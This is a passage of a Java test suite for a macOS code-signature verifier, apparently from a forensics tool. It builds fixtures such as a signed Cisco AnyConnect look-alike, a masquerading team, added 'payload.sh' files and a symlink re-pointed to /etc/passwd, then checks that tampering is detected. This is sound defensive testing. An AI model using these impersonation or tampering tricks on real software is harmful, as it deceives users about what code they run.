package io.vestige.codesign;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import io.vestige.format.dir.DirectoryFileSystem;
import io.vestige.fixtures.macho.BundleBuilder;
import io.vestige.fixtures.macho.CodeSigner;
import io.vestige.fixtures.macho.MachOBuilder;
import io.vestige.fixtures.macho.MachOScenarios;
import io.vestige.fixtures.macho.TestPki;
import io.vestige.io.ByteSources;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.cert.X509Certificate;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Verification of signatures written by the independent fixtures signer, intact and tampered. */
class CodeSignatureVerifierTest {
    @TempDir
    Path tmp;

    static final String DR = "identifier \"com.cisco.anyconnect.vpndownloader\" and anchor apple generic and "
            + "certificate 1[field.1.2.840.113635.100.6.2.6] /* exists */ and certificate leaf[field.1.2.840.113635.100.6.1.13]"
            + " /* exists */ and certificate leaf[subject.OU] = DE8Y96K9QP";

    private Path write(Map<String, byte[]> files) throws Exception {
        for (var e : files.entrySet()) {
            Path p = tmp.resolve(e.getKey());
            Files.createDirectories(p.getParent());
            Files.write(p, e.getValue());
        }
        return tmp.resolve(MachOScenarios.BUNDLE);
    }

    private static CodeSignResult bundle(Path app, VerifyOptions o) throws Exception {
        return CodeSignatureVerifier.verifyBundle(DirectoryFileSystem.of(app).root(), o);
    }

    private static VerifyOptions withTestRoot() {
        X509Certificate root = MachOScenarios.pki().root().certificate();
        return VerifyOptions.defaults().withTrustAnchors(List.of(root));
    }

    private static Set<ProblemType> types(CodeSignResult r) {
        return r.problems().stream().map(Problem::type).collect(Collectors.toSet());
    }

    @Test
    void ciscoLookAlikeIsUntrustedByDefault() throws Exception {
        CodeSignResult r = bundle(write(MachOScenarios.ciscoLookAlike()), VerifyOptions.defaults());
        assertEquals(Verdict.UNTRUSTED_ANCHOR, r.verdict(), r.problems().toString());
        assertEquals(Set.of(ProblemType.UNTRUSTED_ANCHOR), types(r));
        assertEquals(2, r.slices().size());
        assertEquals(List.of("x86_64", "arm64"), r.slices().stream().map(CodeSignResult.SliceResult::arch).toList());
        for (CodeSignResult.SliceResult s : r.slices()) {
            assertEquals("DE8Y96K9QP", s.teamId());
            assertEquals("com.cisco.anyconnect.vpndownloader", s.identifier());
            assertEquals("Developer ID Application: Cisco (DE8Y96K9QP)", s.cms().signerCommonName());
            assertEquals("DE8Y96K9QP", s.cms().teamId());
            assertEquals("untrusted", s.cms().anchor().kind());
            assertEquals(DR, s.designatedRequirement());
            assertEquals(Instant.parse("2024-06-01T12:00:00Z"), s.cms().signingTime());
            assertEquals(Instant.parse("2024-06-01T12:00:05Z"), s.cms().timestamp().time());
            assertTrue(s.cms().timestamp().valid());
            assertEquals("match", s.cms().cdhashesAttribute());
            assertEquals("match", s.cms().hashAgilityAttribute());
            assertTrue(s.flags().contains("runtime"));
            CodeSignResult.CodeDirectoryResult cd = s.codeDirectories().get(0);
            assertEquals("0x20500", cd.version());
            assertEquals("sha256", cd.hashType());
            assertTrue(cd.pageHashesValid());
            assertEquals(Map.of(-1, "match", -2, "match", -3, "match"), cd.specialSlots().stream()
                    .collect(Collectors.toMap(CodeSignResult.SpecialSlotResult::slot, CodeSignResult.SpecialSlotResult::status)));
        }
        assertTrue(r.bundle().codeResourcesIntact());
        assertEquals(3, r.bundle().filesChecked());
        assertEquals("not-determinable-offline", r.notarization().status());
    }

    @Test
    void ciscoLookAlikeIsValidWithTheTestRootAsUserAnchor() throws Exception {
        CodeSignResult r = bundle(write(MachOScenarios.ciscoLookAlike()), withTestRoot());
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertTrue(r.problems().isEmpty());
        for (CodeSignResult.SliceResult s : r.slices()) {
            assertEquals("user-supplied", s.cms().anchor().kind());
            assertEquals(TestPki.pem(MachOScenarios.pki().root().certificate()).length() > 0, true);
            assertEquals(Boolean.TRUE, s.designatedRequirementSatisfied());
            assertEquals(3, s.cms().chain().size());
        }
    }

    @Test
    void masqueradeIsSignedByAnotherTeam() throws Exception {
        CodeSignResult r = bundle(write(MachOScenarios.masquerade()), withTestRoot());
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals(MachOScenarios.MASQUERADE_TEAM, r.teamId());
        assertEquals(MachOScenarios.IDENTIFIER, r.identifier());
        assertEquals("Developer ID Application: Cisco Systems Updates (QX7R2M4K9Z)", r.slices().get(0).cms().signerCommonName());
    }

    @Test
    void oneFlippedCodeByteIsNamed() throws Exception {
        CodeSignResult r = bundle(write(MachOScenarios.tampered()), withTestRoot());
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.CODE_PAGE_HASH_MISMATCH), types(r));
        CodeSignResult.SliceResult x86 = r.slices().get(0);
        assertEquals(Verdict.INVALID, x86.verdict());
        long page = (MachOBuilder.x86_64().textOffset() + 100) / 4096;
        assertEquals(List.of(page), x86.codeDirectories().get(0).mismatchedPages());
        assertFalse(x86.codeDirectories().get(0).pageHashesValid());
        assertEquals(Verdict.VALID, r.slices().get(1).verdict());
    }

    @Test
    void flippedInfoPlistByteIsNamed() throws Exception {
        Path app = write(MachOScenarios.ciscoLookAlike());
        flip(app.resolve("Contents/Info.plist"), 60);
        CodeSignResult r = bundle(app, withTestRoot());
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.INFO_PLIST_MISMATCH), types(r));
    }

    @Test
    void flippedResourceByteIsNamed() throws Exception {
        Path app = write(MachOScenarios.ciscoLookAlike());
        flip(app.resolve("Contents/Resources/update.xml"), 3);
        CodeSignResult r = bundle(app, withTestRoot());
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.RESOURCE_MODIFIED), types(r));
        assertEquals(List.of("Resources/update.xml"), r.bundle().modified());
        assertFalse(r.bundle().codeResourcesIntact());
    }

    @Test
    void addedAndMissingResourcesAreListed() throws Exception {
        Path app = write(MachOScenarios.ciscoLookAlike());
        Files.writeString(app.resolve("Contents/Resources/payload.sh"), "#!/bin/sh\n");
        Files.delete(app.resolve("Contents/Resources/AnyConnect.icns"));
        // optional (.lproj) resources may go missing without a problem
        Files.delete(app.resolve("Contents/Resources/en.lproj/Localizable.strings"));
        Files.writeString(app.resolve("Contents/Resources/.DS_Store"), "omitted by rules2");
        CodeSignResult r = bundle(app, withTestRoot());
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.RESOURCE_ADDED, ProblemType.RESOURCE_MISSING), types(r));
        assertEquals(List.of("Resources/payload.sh"), r.bundle().added());
        assertEquals(List.of("Resources/AnyConnect.icns"), r.bundle().missing());
    }

    @Test
    void codeResourcesSwapIsCaughtBySlotMinus3() throws Exception {
        Path app = write(MachOScenarios.ciscoLookAlike());
        Path cr = app.resolve("Contents/_CodeSignature/CodeResources");
        Files.writeString(cr, Files.readString(cr).replace("<key>Resources/update.xml</key>", "<key>Resources/other.xml</key>"));
        CodeSignResult r = bundle(app, withTestRoot());
        assertEquals(Verdict.INVALID, r.verdict());
        assertTrue(types(r).contains(ProblemType.RESOURCE_DIRECTORY_MISMATCH), r.problems().toString());
    }

    @Test
    void stapledTicketIsReported() throws Exception {
        Path app = write(MachOScenarios.ciscoLookAlike());
        Files.write(app.resolve("Contents/CodeResources"), new byte[] {'s', '8', 'c', 'h'});
        CodeSignResult r = bundle(app, withTestRoot());
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals("ticket-stapled", r.notarization().status());
    }

    @Test
    void adhocAndUnsignedThinFiles() throws Exception {
        byte[] img = MachOBuilder.arm64().text(new byte[10000]).build();
        CodeSigner.Signed s = CodeSigner.sign(img, CodeSigner.Options.adhoc("com.example.adhoc"));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r.verdict(), r.problems().toString());
        assertTrue(r.problems().isEmpty());
        assertEquals(HexFormat.of().formatHex(s.allCdhashes().get(0)), r.slices().get(0).cdhash());
        assertTrue(r.slices().get(0).flags().contains("adhoc"));
        // codeLimit = the signature offset: codesign hashes every byte before the signature
        CodeSignResult.CodeDirectoryResult cd = r.slices().get(0).codeDirectories().get(0);
        assertEquals((cd.codeLimit() + 4095) / 4096, cd.nCodeSlots());
        // linker-signed style: no CMS wrapper at all
        CodeSigner.Signed ls = CodeSigner.sign(img, CodeSigner.Options.adhoc("com.example.ls").withoutCmsWrapper());
        CodeSignResult r2 = CodeSignatureVerifier.verifyFile(ByteSources.wrap(ls.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r2.verdict());
        assertTrue(r2.slices().get(0).flags().contains("linker-signed"));
        CodeSignResult u = CodeSignatureVerifier.verifyFile(ByteSources.wrap(MachOBuilder.x86_64().unsigned().build()),
                VerifyOptions.defaults());
        assertEquals(Verdict.UNSIGNED, u.verdict());
        assertFalse(u.slices().get(0).signed());
    }

    @Test
    void everyCodeDirectoryVersionVerifies() throws Exception {
        byte[] img = MachOBuilder.x86_64().text(new byte[7000]).build();
        for (int v : new int[] {0x20100, 0x20200, 0x20300, 0x20400, 0x20500, 0x20600}) {
            CodeSigner.Signed s = CodeSigner.sign(img, CodeSigner.Options.adhoc("com.example.v").withVersion(v));
            CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
            assertEquals(Verdict.ADHOC, r.verdict(), Integer.toHexString(v) + " " + r.problems());
            assertEquals("0x" + Integer.toHexString(v), r.slices().get(0).codeDirectories().get(0).version());
        }
    }

    @Test
    void alternateCodeDirectoriesAndHashTypes() throws Exception {
        TestPki pki = MachOScenarios.pki();
        byte[] img = MachOBuilder.arm64().text(new byte[20000]).build();
        CodeSigner.Signed s = CodeSigner.sign(img, CodeSigner.Options.developerId("com.example.alt", "ABCDE12345",
                pki.developerId("Example", "ABCDE12345")).withHashTypes(List.of(CodeSigner.HASH_SHA1, CodeSigner.HASH_SHA256,
                CodeSigner.HASH_SHA384)));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        List<CodeSignResult.CodeDirectoryResult> cds = r.slices().get(0).codeDirectories();
        assertEquals(List.of("0", "0x1000", "0x1001"), cds.stream().map(CodeSignResult.CodeDirectoryResult::slot).toList());
        assertEquals(List.of("sha1", "sha256", "sha384"), cds.stream().map(CodeSignResult.CodeDirectoryResult::hashType).toList());
        for (int i = 0; i < 3; i++) {
            assertEquals(HexFormat.of().formatHex(s.allCdhashes().get(i)), cds.get(i).cdhash());
        }
        // the strongest CodeDirectory's cdhash is the one reported for the slice
        assertEquals(cds.get(2).cdhash(), r.slices().get(0).cdhash());
    }

    @Test
    void entitlementsAreBoundAndTamperingIsNamed() throws Exception {
        String ent = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict>"
                + "<key>com.apple.security.cs.allow-jit</key><true/></dict></plist>\n";
        byte[] der = derEntitlement("com.apple.security.cs.allow-jit");
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("com.example.ent")
                .withEntitlements(ent, der));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r.verdict(), r.problems().toString());
        assertEquals(ent, r.slices().get(0).entitlements());
        assertEquals("{com.apple.security.cs.allow-jit=true}", r.slices().get(0).derEntitlements());
        assertTrue(r.slices().get(0).notes().isEmpty(), r.slices().get(0).notes().toString());
        // DER entitlements that say something else than the XML ones are pointed out
        CodeSigner.Signed d = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("com.example.ent")
                .withEntitlements(ent, derEntitlement("com.apple.security.get-task-allow")));
        CodeSignResult dr = CodeSignatureVerifier.verifyFile(ByteSources.wrap(d.bytes()), VerifyOptions.defaults());
        assertTrue(dr.slices().get(0).notes().stream().anyMatch(n -> n.startsWith("XML and DER entitlements disagree")),
                dr.slices().get(0).notes().toString());
        byte[] bad = s.bytes().clone();
        int at = indexOf(bad, "allow-jit".getBytes(StandardCharsets.US_ASCII));
        bad[at] = 'X';
        CodeSignResult t = CodeSignatureVerifier.verifyFile(ByteSources.wrap(bad), VerifyOptions.defaults());
        assertEquals(Verdict.INVALID, t.verdict());
        assertEquals(Set.of(ProblemType.ENTITLEMENTS_MISMATCH), types(t));
    }

    @Test
    void certificateExpiredAtSigningTimeIsNamed() throws Exception {
        TestPki pki = MachOScenarios.pki();
        TestPki.Identity old = pki.developerId("Old", "OLDTEAM123", Instant.parse("2019-01-01T00:00:00Z"),
                Instant.parse("2020-06-01T00:00:00Z"));
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(),
                CodeSigner.Options.developerId("com.example.old", "OLDTEAM123", old));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        assertTrue(types(r).contains(ProblemType.CERTIFICATE_NOT_VALID_AT_SIGNING_TIME), r.problems().toString());
    }

    @Test
    void flippedCodeDirectoryByteBreaksTheCms() throws Exception {
        TestPki pki = MachOScenarios.pki();
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.cd",
                "ABCDE12345", pki.developerId("Example", "ABCDE12345")));
        byte[] bad = s.bytes().clone();
        int at = indexOf(bad, "com.example.cd".getBytes(StandardCharsets.US_ASCII));
        bad[at] = 'k'; // identifier inside the CodeDirectory
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(bad),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        assertTrue(types(r).contains(ProblemType.CMS_MESSAGE_DIGEST_MISMATCH), r.problems().toString());
        assertTrue(types(r).contains(ProblemType.CMS_CDHASHES_MISMATCH), r.problems().toString());
        // and a flipped byte of the CMS signature value
        byte[] cms = s.cms().get(0);
        byte[] bad2 = s.bytes().clone();
        int cmsAt = indexOf(bad2, cms);
        byte[] sigValue = org.bouncycastle.cms.CMSSignedData.class.getName().isEmpty() ? null
                : new org.bouncycastle.cms.CMSSignedData(cms).getSignerInfos().getSigners().iterator().next().getSignature();
        int sigAt = indexOf(bad2, sigValue);
        assertTrue(sigAt > cmsAt);
        bad2[sigAt + 10] ^= 0x40;
        CodeSignResult r2 = CodeSignatureVerifier.verifyFile(ByteSources.wrap(bad2),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r2.verdict());
        assertTrue(types(r2).contains(ProblemType.CMS_SIGNATURE_INVALID), r2.problems().toString());
    }

    @Test
    void jsonContractNames() throws Exception {
        CodeSignResult r = bundle(write(MachOScenarios.ciscoLookAlike()), withTestRoot());
        JsonNode n = JsonMapper.builder().build().valueToTree(r);
        assertEquals("valid", n.get("verdict").asText());
        assertTrue(n.get("problems").isArray());
        JsonNode slice = n.get("slices").get(0);
        assertEquals("x86_64", slice.get("arch").asText());
        assertEquals("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", slice.get("uuid").asText());
        JsonNode cd = slice.get("codeDirectories").get(0);
        for (String f : List.of("version", "hashType", "identifier", "teamId", "cdhash", "pageHashesValid")) {
            assertTrue(cd.has(f), f);
        }
        JsonNode cms = slice.get("cms");
        for (String f : List.of("signerSubject", "chain", "anchor", "signingTime")) {
            assertTrue(cms.has(f), f);
        }
        assertEquals("2024-06-01T12:00:00Z", cms.get("signingTime").asText());
        assertEquals("user-supplied", cms.get("anchor").get("kind").asText());
    }

    @Test
    void verifyByPathFindsTheBundleOfAMainExecutable() throws Exception {
        write(MachOScenarios.ciscoLookAlike());
        DirectoryFileSystem fs = DirectoryFileSystem.of(tmp);
        CodeSignResult r = CodeSignatureVerifier.verify(fs, "/" + MachOScenarios.EXECUTABLE_PATH, withTestRoot());
        assertEquals("bundle", r.kind());
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
    }

    @Test
    void nestedCodeIsVerified() throws Exception {
        TestPki pki = MachOScenarios.pki();
        CodeSigner.Options opts = CodeSigner.Options.developerId("com.example.helper", "ABCDE12345",
                pki.developerId("Example", "ABCDE12345"));
        Map<String, byte[]> helper = new BundleBuilder("Helper.app", "com.example.helper", "Helper")
                .executable(MachOBuilder.arm64().build()).build(opts);
        Path outer = tmp.resolve("outer");
        for (var e : helper.entrySet()) {
            Path p = outer.resolve("Outer.app/Contents/Helpers").resolve(e.getKey());
            Files.createDirectories(p.getParent());
            Files.write(p, e.getValue());
        }
        // the outer seal names the helper by cdhash, as codesign does for nested code
        CodeSignResult inner = CodeSignatureVerifier.verifyBundle(
                DirectoryFileSystem.of(outer.resolve("Outer.app/Contents/Helpers/Helper.app")).root(),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.VALID, inner.verdict(), inner.problems().toString());
        String innerCdhash = inner.slices().get(0).cdhash();
        String cr = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>files2</key><dict>"
                + "<key>Helpers/Helper.app</key><dict><key>cdhash</key><data>"
                + java.util.Base64.getEncoder().encodeToString(HexFormat.of().parseHex(innerCdhash))
                + "</data><key>requirement</key><string>identifier \"com.example.helper\"</string></dict></dict>"
                + "<key>rules2</key><dict><key>^.*</key><true/><key>^Info\\.plist$</key><dict><key>omit</key><true/>"
                + "<key>weight</key><real>20</real></dict><key>^(Helpers|MacOS)/</key><dict><key>nested</key><true/>"
                + "<key>weight</key><real>10</real></dict></dict></dict></plist>";
        BundleBuilder ob = new BundleBuilder("Outer.app", "com.example.outer", "Outer").executable(MachOBuilder.arm64().build());
        byte[] info = ob.infoPlistText().getBytes(StandardCharsets.UTF_8);
        byte[] crb = cr.getBytes(StandardCharsets.UTF_8);
        byte[] exe = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.outer",
                "ABCDE12345", pki.developerId("Example", "ABCDE12345")).withInfoPlist(info).withCodeResources(crb)).bytes();
        Path c = outer.resolve("Outer.app/Contents");
        Files.write(c.resolve("Info.plist"), info);
        Files.createDirectories(c.resolve("_CodeSignature"));
        Files.write(c.resolve("_CodeSignature/CodeResources"), crb);
        Files.createDirectories(c.resolve("MacOS"));
        Files.write(c.resolve("MacOS/Outer"), exe);
        VerifyOptions o = VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate()));
        CodeSignResult r = CodeSignatureVerifier.verifyBundle(DirectoryFileSystem.of(outer.resolve("Outer.app")).root(), o);
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals(1, r.nested().size());
        // tamper with the helper's code: the outer bundle becomes invalid through its nested code
        Path helperExe = c.resolve("Helpers/Helper.app/Contents/MacOS/Helper");
        flip(helperExe, MachOBuilder.arm64().textOffset());
        CodeSignResult t = CodeSignatureVerifier.verifyBundle(DirectoryFileSystem.of(outer.resolve("Outer.app")).root(), o);
        assertEquals(Verdict.INVALID, t.verdict());
        assertTrue(types(t).contains(ProblemType.NESTED_CODE_INVALID), t.problems().toString());
    }

    @Test
    void launchConstraintsAreBoundAndNoted() throws Exception {
        byte[] lc = CodeSigner.blob(0xfade8181, new byte[] {0x30, 0x03, 0x02, 0x01, 0x01});
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("com.example.lc"),
                Map.of(8, lc, 9, lc));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r.verdict(), r.problems().toString());
        assertEquals(2, r.slices().get(0).launchConstraints().size());
        assertTrue(r.slices().get(0).launchConstraints().get(0).startsWith("launch constraint (self)"));
        assertEquals(9, r.slices().get(0).codeDirectories().get(0).nSpecialSlots());
        byte[] bad = s.bytes().clone();
        bad[indexOf(bad, lc) + 10] ^= 1;
        assertEquals(Verdict.INVALID, CodeSignatureVerifier.verifyFile(ByteSources.wrap(bad), VerifyOptions.defaults()).verdict());
    }

    @Test
    void designatedRequirementThatFailsUnderATrustedAnchor() throws Exception {
        TestPki pki = MachOScenarios.pki();
        byte[] dr = io.vestige.fixtures.macho.Requirements.expression().identifier("com.someone.else").blob();
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.dr",
                "ABCDE12345", pki.developerId("Example", "ABCDE12345")).withDesignatedRequirement(dr));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.DESIGNATED_REQUIREMENT_NOT_SATISFIED), types(r));
        assertEquals("identifier \"com.someone.else\"", r.slices().get(0).designatedRequirement());
    }

    @Test
    void teamIdentifierDisagreeingWithTheCertificate() throws Exception {
        TestPki pki = MachOScenarios.pki();
        // the CodeDirectory claims Cisco's team, the certificate belongs to another team
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.t",
                "DE8Y96K9QP", pki.developerId("Other", "OTHERTEAM1")));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.INVALID, r.verdict());
        assertTrue(types(r).contains(ProblemType.TEAM_ID_MISMATCH), r.problems().toString());
        assertEquals(Boolean.FALSE, r.slices().get(0).teamIdsAgree());
    }

    @Test
    void aPageModifiedUnderTwoCodeDirectoriesIsOneProblem() throws Exception {
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().text(new byte[20000]).build(),
                CodeSigner.Options.adhoc("com.example.two").withHashTypes(List.of(CodeSigner.HASH_SHA1, CodeSigner.HASH_SHA256)));
        byte[] b = s.bytes().clone();
        b[5000] ^= 0x01; // inside page 1 (4096..8191) of the zero-filled __text
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(b), VerifyOptions.defaults());
        assertEquals(Verdict.INVALID, r.verdict());
        List<CodeSignResult.CodeDirectoryResult> cds = r.slices().get(0).codeDirectories();
        assertEquals(2, cds.size());
        for (CodeSignResult.CodeDirectoryResult cd : cds) {
            assertEquals(List.of(1L), cd.mismatchedPages(), cd.toString());
        }
        List<Problem> pages = r.problems().stream().filter(p -> p.type() == ProblemType.CODE_PAGE_HASH_MISMATCH).toList();
        assertEquals(1, pages.size(), r.problems().toString());
        assertTrue(pages.get(0).where().endsWith(" CodeDirectory, alternate CodeDirectory #0"), pages.get(0).where());
        assertEquals(r.problems(), r.slices().get(0).problems());
    }

    @Test
    void aFolderThatIsNotABundleIsSaidSo() throws Exception {
        Path empty = Files.createDirectories(tmp.resolve("empty"));
        Path plain = Files.createDirectories(tmp.resolve("plain/Contents/Resources"));
        Files.writeString(plain.resolve("notes.txt"), "x");
        for (Path p : List.of(empty, tmp.resolve("plain"))) {
            CodeSignResult r = CodeSignatureVerifier.verifyBundle(DirectoryFileSystem.of(p).root(), VerifyOptions.defaults());
            assertEquals("folder", r.kind(), p.toString());
            assertEquals(Verdict.UNSIGNED, r.verdict());
            assertTrue(r.problems().isEmpty(), r.problems().toString());
            assertTrue(r.notes().stream().anyMatch(n -> n.contains("not a bundle")), r.notes().toString());
        }
        // an Info.plist alone makes an (unsigned) bundle
        Path info = Files.createDirectories(tmp.resolve("Info.bundle/Contents"));
        Files.writeString(info.resolve("Info.plist"), "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict>"
                + "<key>CFBundleIdentifier</key><string>com.example.info</string></dict></plist>");
        CodeSignResult b = CodeSignatureVerifier.verifyBundle(DirectoryFileSystem.of(tmp.resolve("Info.bundle")).root(),
                VerifyOptions.defaults());
        assertEquals("bundle", b.kind());
        assertEquals(Verdict.UNSIGNED, b.verdict());
    }

    @Test
    void truncatedSha256HashType() throws Exception {
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.x86_64().text(new byte[6000]).build(),
                CodeSigner.Options.adhoc("com.example.t20").withHashTypes(List.of(CodeSigner.HASH_SHA256_TRUNCATED)));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r.verdict(), r.problems().toString());
        assertEquals("sha256-truncated", r.slices().get(0).codeDirectories().get(0).hashType());
        assertEquals(HexFormat.of().formatHex(s.allCdhashes().get(0)), r.slices().get(0).cdhash());
    }

    @Test
    void sealedSymlinks() throws Exception {
        TestPki pki = MachOScenarios.pki();
        Path app = new BundleBuilder("Links.app", "com.example.links", "Links").executable(MachOBuilder.arm64().build())
                .resource("Resources/real.txt", "x".getBytes(StandardCharsets.US_ASCII))
                .symlink("Resources/link.txt", "real.txt")
                .writeTo(tmp, CodeSigner.Options.developerId("com.example.links", "ABCDE12345",
                        pki.developerId("Example", "ABCDE12345")));
        VerifyOptions o = VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate()));
        CodeSignResult r = bundle(app, o);
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertEquals(2, r.bundle().filesChecked());
        Path link = app.resolve("Contents/Resources/link.txt");
        Files.delete(link);
        Files.createSymbolicLink(link, Path.of("/etc/passwd"));
        CodeSignResult t = bundle(app, o);
        assertEquals(Set.of(ProblemType.RESOURCE_SYMLINK_MISMATCH), types(t));
    }

    @Test
    void unsortedSignedAttributesVerifyOverTheStoredBytes() throws Exception {
        // openssl rejects this CMS because it re-sorts the attribute SET (fixtures tool test); Apple's verifier
        // and Vestige check the signature over the bytes as stored
        TestPki pki = MachOScenarios.pki();
        TestPki.Identity id = pki.developerId("Example", "ABCDE12345");
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.u",
                "ABCDE12345", id), Map.of(), CodeSigner.unsortedSignedAttributes(id.key()));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()),
                VerifyOptions.defaults().withTrustAnchors(List.of(pki.root().certificate())));
        assertEquals(Verdict.VALID, r.verdict(), r.problems().toString());
        assertTrue(r.slices().get(0).cms().signatureValid());
        // Bouncy Castle's own check re-encodes the SET in DER order and so rejects the same valid signature
        org.bouncycastle.cms.SignerInformation si = new org.bouncycastle.cms.CMSSignedData(
                new org.bouncycastle.cms.CMSProcessableByteArray(s.codeDirectories().get(0)), s.cms().get(0))
                .getSignerInfos().getSigners().iterator().next();
        boolean bc;
        try {
            bc = si.verify(new org.bouncycastle.cms.jcajce.JcaSimpleSignerInfoVerifierBuilder().build(id.certificate()));
        } catch (org.bouncycastle.cms.CMSException e) {
            bc = false;
        }
        assertFalse(bc, "Bouncy Castle re-sorts the attributes");
    }

    @Test
    void slicesMustAgree() throws Exception {
        byte[] a = CodeSigner.sign(MachOBuilder.x86_64().build(), CodeSigner.Options.adhoc("com.example.one")).bytes();
        byte[] b = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("com.example.two")).bytes();
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(MachOBuilder.fat(List.of(a, b))),
                VerifyOptions.defaults());
        assertEquals(Verdict.INVALID, r.verdict());
        assertEquals(Set.of(ProblemType.SLICES_DISAGREE), types(r));
        byte[] u = MachOBuilder.arm64().unsigned().build();
        CodeSignResult m = CodeSignatureVerifier.verifyFile(ByteSources.wrap(MachOBuilder.fat(List.of(a, u))),
                VerifyOptions.defaults());
        assertEquals(Verdict.INVALID, m.verdict());
        assertEquals(Set.of(ProblemType.SLICES_DISAGREE), types(m));
    }

    @Test
    void ticketInTheSuperBlobIsReported() throws Exception {
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("com.example.t"),
                Map.of(0x10002, CodeSigner.blob(0x73386368, new byte[16])));
        CodeSignResult r = CodeSignatureVerifier.verifyFile(ByteSources.wrap(s.bytes()), VerifyOptions.defaults());
        assertEquals(Verdict.ADHOC, r.verdict(), r.problems().toString());
        assertEquals("ticket-stapled", r.notarization().status());
        CodeSignResult plain = CodeSignatureVerifier.verifyFile(ByteSources.wrap(
                CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.adhoc("x")).bytes()), VerifyOptions.defaults());
        assertEquals("not-determinable-offline", plain.notarization().status());
    }

    @Test
    void signedHashesForACodeDirectoryThatIsNotThere() throws Exception {
        // sign with SHA-1 + SHA-256 CodeDirectories, then drop the alternate from the SuperBlob index: the CMS
        // still lists two cdhashes (zsign #390-style forgery indicator)
        TestPki pki = MachOScenarios.pki();
        CodeSigner.Signed s = CodeSigner.sign(MachOBuilder.arm64().build(), CodeSigner.Options.developerId("com.example.z",
                "ABCDE12345", pki.developerId("Example", "ABCDE12345")).withHashTypes(List.of(CodeSigner.HASH_SHA1,
                CodeSigner.HASH_SHA256)));
